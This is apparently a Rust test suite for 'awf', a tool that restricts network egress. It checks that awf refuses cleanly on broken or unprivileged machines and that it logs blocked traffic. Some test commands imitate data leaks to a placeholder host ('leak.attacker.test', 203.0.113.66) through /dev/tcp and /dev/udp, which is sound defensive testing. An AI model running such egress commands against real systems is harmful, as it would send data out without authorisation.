//! Machines on which awf cannot work: one clear error, an exit code of its own, nothing run and nothing changed.

use std::net::TcpListener;
use std::os::unix::process::CommandExt as _;
use std::path::Path;
use std::process::Command;
use std::time::Instant;

use awf::exit::Exit;
use awf_tests::{awf, docker, runtime_options};

use xtask::docker::Docker;

use crate::world::{ALLOWED, Ended, World, finish};

/// Asserts that awf said what is wrong, once, and did nothing.
#[track_caller]
fn refused(world: &World, run: &Ended, exit: Exit, needle: &str) {
    assert_eq!(run.code, i32::from(exit.code()), "{run:#?}");
    assert_eq!(run.stdout, "", "the command ran: {run:#?}");
    assert_eq!(run.errors().len(), 1, "{run:#?}");
    assert!(run.errors()[0].contains(needle), "no {needle:?} in {run:#?}");
    world.dies_out(needle);
    assert_eq!(world.left(), [""; 0], "{run:#?}");
}

const MARK: &str = "echo the command ran";

#[track_caller]
fn check(setup: &str, options: &[&str], exit: Exit, needle: &str) {
    let world = World::broken_by(setup);
    let run = world.run(options, MARK);
    refused(&world, &run, exit, needle);
}

/// Runs awf through a program that takes something away, such as setpriv.
#[track_caller]
fn check_without(taker: &[&str], exit: Exit, needle: &str) {
    let world = World::new();
    let began = Instant::now();
    let mut command = world.command(taker[0]);
    command.args(&taker[1..]).arg(awf()).args(runtime_options()).args([
        "--allow-domains",
        ALLOWED,
        "--",
        MARK,
    ]);
    let run = finish(command.spawn().unwrap(), began);
    refused(&world, &run, exit, needle);
}

#[test]
fn a_sound_world_is_no_obstacle() {
    let world = World::new();
    let run = world.run(&[], "curl -sS https://example.com");
    assert_eq!(run.code, 0, "{run:#?}");
    assert!(run.stdout.contains("example.com"), "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn no_cgroup2_is_mounted() {
    let hide = "for place in $(sed -n 's/.* \\(\\/[^ ]*\\) [^ ]* .*- cgroup2 .*/\\1/p' /proc/self/mountinfo); \
                do mount -t tmpfs hidden $place; done";
    check(hide, &[], Exit::NoCgroup2, "no writable cgroup v2 hierarchy");
}

#[test]
fn the_cgroup2_is_read_only() {
    let freeze = "for place in $(sed -n 's/.* \\(\\/[^ ]*\\) [^ ]* .*- cgroup2 .*/\\1/p' /proc/self/mountinfo); \
                  do mount -o remount,bind,ro $place; done";
    check(freeze, &[], Exit::NoCgroup2, "no writable cgroup v2 hierarchy");
}

#[test]
fn squid_is_not_installed() {
    let remove = "for place in /usr/sbin /usr/local/sbin /usr/bin /usr/local/bin /usr/local/squid/sbin; do \
                  if [ -e $place/squid ]; then mount --bind /dev/null $place/squid; fi; done";
    if docker().is_none() {
        check(remove, &[], Exit::SquidMissing, "Squid is not installed");
        return;
    }
    // The machine needs none: there is one in the image.
    let world = World::broken_by(remove);
    let run = world.run(&[], "curl -sS -o /dev/null https://example.com && echo reached");
    assert_eq!((run.code, run.stdout.as_str()), (0, "reached\n"), "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
    let missing = ["--image-tag", "missing", "--skip-pull"];
    check("true", &missing, Exit::DockerUnusable, "awf-agent:missing is not there");
}

#[test]
fn bash_is_not_installed() {
    let remove = "mount --bind /dev/null $(readlink -f /bin/bash)";
    check(remove, &[], Exit::SetUp, "/bin/bash is missing");
}

/// The original's entrypoint cannot do without: awf drops rights itself.
#[test]
fn a_machine_without_capsh_is_no_obstacle() {
    let remove = "for place in /usr/sbin /usr/bin /sbin; do \
                  if [ -e $place/capsh ]; then mount --bind /dev/null $place/capsh; fi; done";
    let world = World::broken_by(remove);
    let run = world.run(&[], "grep CapBnd /proc/self/status");
    assert_eq!(run.stdout, "CapBnd:\t0000000000000000\n", "{run:#?}");
}

#[test]
fn the_kernel_refuses_programs() {
    let world = World::new();
    let began = Instant::now();
    let mut command = world.awf();
    command.args(["--", MARK]);
    // SAFETY: only system calls between fork and exec; the filter and its program live on the stack until prctl returns.
    unsafe { command.pre_exec(refuse_bpf) };
    let run = finish(command.spawn().unwrap(), began);
    refused(&world, &run, Exit::ProgramsRefused, "");
}

/// Makes bpf(2) fail with EPERM from here on, as the default profile of container engines does.
fn refuse_bpf() -> std::io::Result<()> {
    // Operations of linux/bpf_common.h: load a word of `struct seccomp_data`, jump if equal, return.
    let step = |code, jf, k| libc::sock_filter { code, jt: 0, jf, k };
    let number = u32::try_from(libc::SYS_bpf).unwrap();
    let mut filter = [
        step(0x20, 0, 0),
        step(0x15, 1, number),
        step(0x06, 0, libc::SECCOMP_RET_ERRNO | libc::EPERM.unsigned_abs()),
        step(0x06, 0, libc::SECCOMP_RET_ALLOW),
    ];
    let program = libc::sock_fprog { len: 4, filter: filter.as_mut_ptr() };
    // SAFETY: `program` and the filter it points to outlive the call. Root needs no no_new_privs for it.
    let result =
        unsafe { libc::prctl(libc::PR_SET_SECCOMP, libc::SECCOMP_MODE_FILTER, &raw const program) };
    if result == 0 { Ok(()) } else { Err(std::io::Error::last_os_error()) }
}

#[test]
fn root_without_capabilities() {
    let take = |capabilities| ["setpriv", "--bounding-set", capabilities];
    check_without(&take("-bpf,-sys_admin,-net_admin"), Exit::NoPrivilege, "cap");
    check_without(&take("-sys_admin"), Exit::NoPrivilege, "cap");
    check_without(&take("-net_admin"), Exit::NoPrivilege, "cap");
}

#[test]
fn neither_root_nor_sudo() {
    let drop = "exec setpriv --reuid 65534 --regid 65534 --clear-groups env PATH=/nowhere \"$@\"";
    let world =
        World::broken_by("if [ -e /usr/bin/sudo ]; then mount --bind /dev/null /usr/bin/sudo; fi");
    let began = Instant::now();
    let mut command = world.command("sh");
    // The binary may lie where only root may go: it is handed over as an open file.
    command.args(["-c", &format!("exec 9<\"$0\"; {drop}")]).arg(awf()).arg("/proc/self/fd/9");
    command.args(runtime_options()).args(["--allow-domains", ALLOWED, "--", MARK]);
    let run = finish(command.spawn().unwrap(), began);
    refused(&world, &run, Exit::NoPrivilege, "sudo");
}

#[test]
fn sudo_refuses() {
    let world = World::new();
    let sudo = world.path().join("sudo");
    std::fs::write(&sudo, "#!/bin/sh\necho 'sudo: a password is required' >&2; exit 1\n").unwrap();
    assert!(Command::new("chmod").args(["755"]).arg(&sudo).status().unwrap().success());
    let drop = "exec setpriv --reuid 65534 --regid 65534 --clear-groups env PATH=\"$PWD:/usr/bin:/bin\" \"$@\"";
    let began = Instant::now();
    let mut command = world.command("sh");
    command.args(["-c", &format!("exec 9<\"$0\"; {drop}")]).arg(awf()).arg("/proc/self/fd/9");
    command.args(runtime_options()).args(["--allow-domains", ALLOWED, "--", MARK]);
    let run = finish(command.spawn().unwrap(), began);
    refused(&world, &run, Exit::NoPrivilege, "a password is required");
}

#[test]
fn every_port_is_taken() {
    let world = World::new();
    // awf looks at 64 sets of three ports from 20000 on when the ephemeral ports leave it no more.
    let taken = "echo 1024 65535 >/proc/sys/net/ipv4/ip_local_port_range; ip link set lo up; \
                 python3 -c 'import socket,sys,subprocess
kept = []
for port in range(20000, 20192):
    s = socket.socket(); s.bind((\"127.0.0.1\", port)); s.listen(); kept.append(s)
sys.exit(subprocess.call(sys.argv[1:]))' \"$@\"";
    let began = Instant::now();
    let mut command = world.command("unshare");
    command.args(["--net", "sh", "-c", taken, "sh"]).arg(awf());
    command.args(runtime_options()).args(["--allow-domains", ALLOWED, "--", MARK]);
    let run = finish(command.spawn().unwrap(), began);
    refused(&world, &run, Exit::PortTaken, "ports");
}

#[test]
fn one_taken_port_is_stepped_over() {
    let listeners: Vec<_> = awf_tests::lab()
        .in_host(|| {
            Ok((20_000..32_000)
                .step_by(200)
                .filter_map(|port| TcpListener::bind(("127.0.0.1", port)).ok())
                .collect())
        })
        .unwrap();
    let world = World::new();
    for _ in 0..3 {
        let run = world.run(&[], "curl -sS -o /dev/null https://example.com");
        assert_eq!(run.code, 0, "{run:#?}");
    }
    drop::<Vec<TcpListener>>(listeners);
}

/// A full file system at `$PWD/full`, with the directory `logs` in it.
const FULL: &str = "mkdir full; mount -t tmpfs -o size=64k full full; mkdir full/logs; \
                    head -c 1m /dev/zero >full/ballast 2>/dev/null || true";

#[track_caller]
fn check_full(option: &str, directory: &str) {
    let world = World::broken_by(FULL);
    let path = world.path().join(directory);
    let run = world.run(&[option, path.to_str().unwrap()], MARK);
    refused(&world, &run, Exit::DiskFull, "No space left");
    let full = world.file(world.path().join("full").to_str().unwrap());
    let mut names: Vec<_> =
        std::fs::read_dir(full).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    names.sort();
    assert_eq!(names, ["ballast", "logs"], "{run:#?}");
}

#[test]
fn the_disk_is_full_in_the_work_directory() {
    check_full("--work-dir", "full/work");
}

#[test]
fn the_disk_is_full_in_the_directory_for_logs() {
    check_full("--proxy-logs-dir", "full/logs");
}

#[test]
fn the_disk_is_full_in_the_directory_for_audit_files() {
    check_full("--audit-dir", "full/logs");
}

/// A file system whose inodes are used up at `$PWD/full`, with the directory `logs` in it.
const NO_INODES: &str = "mkdir full; mount -t tmpfs -o nr_inodes=8 full full; mkdir full/logs; \
                         for i in 1 2 3 4 5 6 7 8; do touch full/$i 2>/dev/null || true; done";

#[test]
fn no_inode_is_left_in_the_directory_for_logs() {
    let world = World::broken_by(NO_INODES);
    for (option, directory) in [
        ("--work-dir", "full/work"),
        ("--proxy-logs-dir", "full/logs"),
        ("--audit-dir", "full/logs"),
    ] {
        let path = world.path().join(directory);
        let run = world.run(&[option, path.to_str().unwrap()], MARK);
        refused(&world, &run, Exit::DiskFull, "No space left");
        let logs = std::fs::read_dir(world.file(world.path().join("full/logs").to_str().unwrap()));
        assert_eq!(logs.unwrap().count(), 0, "{option} left something: {run:#?}");
    }
}

#[test]
fn the_directory_for_logs_is_on_a_read_only_file_system() {
    let world = World::broken_by("mkdir ro; mount -t tmpfs -o ro ro ro");
    for option in ["--proxy-logs-dir", "--audit-dir", "--work-dir"] {
        let path = world.path().join("ro/logs");
        let run = world.run(&[option, path.to_str().unwrap()], MARK);
        refused(&world, &run, Exit::SetUp, "Read-only file system");
    }
}

#[test]
fn a_low_limit_of_open_files_is_raised_for_awf_and_stays_for_the_command() {
    let world = World::new();
    let began = Instant::now();
    crate::report::injected("limit of open files", "awf");
    let mut command = world.command("prlimit");
    command.arg("--nofile=64:4096").arg(awf()).args(runtime_options()).args([
        "--allow-domains",
        ALLOWED,
        "--",
    ]);
    let many = "ulimit -Sn; ulimit -Hn; for i in $(seq 200); do sleep 3 >/dev/tcp/example.com/443 & done; wait; echo done";
    let run = finish(command.arg(many).spawn().unwrap(), began);
    assert_eq!((run.code, run.stdout.as_str()), (0, "64\n4096\ndone\n"), "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn too_few_open_files_that_cannot_be_raised_are_an_error() {
    crate::report::injected("limit of open files", "awf");
    let limited = ["prlimit", "--nofile=64:64", "setpriv", "--bounding-set", "-sys_resource"];
    check_without(&limited, Exit::SetUp, "open only 64 files");
}

#[test]
fn in_a_time_namespace_nothing_times_out_and_the_record_is_whole_and_tells_the_time() {
    for offset in ["100000000", "-1000"] {
        let world = World::new();
        let logs = world.path().join("logs");
        let began = Instant::now();
        let before = jiff::Timestamp::now();
        crate::report::injected("clock moved", "awf");
        let mut command = world.command("unshare");
        command.args(["--time", "--fork", "--monotonic", offset, "--boottime", offset]);
        command.arg(awf()).args(runtime_options()).args([
            "--allow-domains",
            ALLOWED,
            "--agent-timeout",
            "1",
        ]);
        command.arg("--proxy-logs-dir").arg(&logs);
        let line = "echo x >/dev/udp/203.0.113.66/9999; getent ahosts leak.attacker.test >/dev/null; \
                    echo x >/dev/tcp/203.0.113.66/443; sleep 1; echo done";
        let run = finish(command.args(["--", line]).spawn().unwrap(), began);
        assert_eq!((run.code, run.stdout.as_str()), (0, "done\n"), "{run:#?}");
        let records = std::fs::read_to_string(logs.join("egress.jsonl")).unwrap();
        let records: Vec<serde_json::Value> =
            records.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert!(records.len() >= 3, "{records:#?}");
        for record in records {
            let time: jiff::Timestamp = record["time"].as_str().unwrap().parse().unwrap();
            assert!((before..=jiff::Timestamp::now()).contains(&time), "{offset}: {record:#?}");
        }
        assert_eq!(world.left(), [""; 0]);
    }
}

#[test]
fn the_disk_fills_up_during_the_run() {
    let world = World::broken_by("mkdir full; mount -t tmpfs -o size=256k full full");
    let logs = world.path().join("full/logs");
    let line = "for i in $(seq 4000); do echo x >/dev/udp/203.0.113.66/$((9999 + i)); done 2>/dev/null; \
                curl -sS -o /dev/null https://example.com; echo $?";
    let run = world.run(&["--proxy-logs-dir", logs.to_str().unwrap()], line);
    assert_eq!(run.code, 0, "{run:#?}");
    assert!(run.stderr.contains("the record is incomplete"), "{run:#?}");
    world.dies_out("the disk filled up");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn run_directories_that_cannot_be_made() {
    // Frozen for this world only: others may share what is mounted there.
    let freeze =
        |place: &str| format!("mount --bind {place} {place}; mount -o remount,bind,ro {place}");
    let world = World::broken_by(&freeze("/run/awf"));
    let run = world.run(&[], MARK);
    refused(&world, &run, Exit::SetUp, "/run/awf");
    let world = World::broken_by(&freeze("/var/lib/awf"));
    let run = world.run(&[], MARK);
    refused(&world, &run, Exit::SetUp, "/var/lib/awf");
}

#[test]
fn a_squid_that_does_not_start_fails_requests_and_nothing_else() {
    for squid in ["exit 1", "sleep 60"] {
        let made = format!("printf '#!/bin/sh\\n{squid}\\n' >squid; chmod 755 squid");
        let world = World::broken_by(&format!(
            "{made}; squid=$(command -v squid || echo /usr/sbin/squid); mount --bind squid $squid"
        ));
        let images = docker().map(|docker| Images::with_squid(docker, &world.path().join("squid")));
        let options = images.as_ref().map_or(&[][..], |images| &images.options[..]);
        let options: Vec<&str> = options.iter().map(String::as_str).collect();
        let line = "timeout 3 curl -s -m 2 -o /dev/null https://example.com; echo ended $?";
        let run = world.run(&options, line);
        assert!(run.stdout.starts_with("ended ") && run.stdout != "ended 0\n", "{run:#?}");
        assert_eq!(run.code, 0, "{run:#?}");
        world.dies_out(squid);
        assert_eq!(world.left(), [""; 0]);
    }
}

/// Images of awf's with another Squid; removed when dropped.
struct Images {
    docker: Docker,
    tag: String,
    options: [String; 3],
}

impl Images {
    const NAMES: [&str; 2] = ["awf-agent", "awf-squid"];

    fn with_squid(docker: Docker, squid: &Path) -> Self {
        let tag = squid.parent().unwrap().file_name().unwrap().to_str().unwrap().to_owned();
        let ask = |words: &[&str]| docker.ask(words).expect("the daemon obeys");
        let sound = |name: &str| format!("{name}:{}", env!("CARGO_PKG_VERSION"));
        let [agent, proxy] = Self::NAMES;
        ask(&["tag", &sound(agent), &format!("{agent}:{tag}")]);
        let container = ask(&["create", &sound(proxy)]);
        ask(&["cp", squid.to_str().unwrap(), &format!("{container}:/usr/sbin/squid")]);
        ask(&["commit", &container, &format!("{proxy}:{tag}")]);
        ask(&["rm", &container]);
        let options = ["--skip-pull", "--image-tag", &tag].map(str::to_owned);
        Self { docker, tag, options }
    }
}

impl Drop for Images {
    fn drop(&mut self) {
        for name in Self::NAMES {
            let _stays = self.docker.ask(&["rmi", &format!("{name}:{}", self.tag)]).is_err();
        }
    }
}
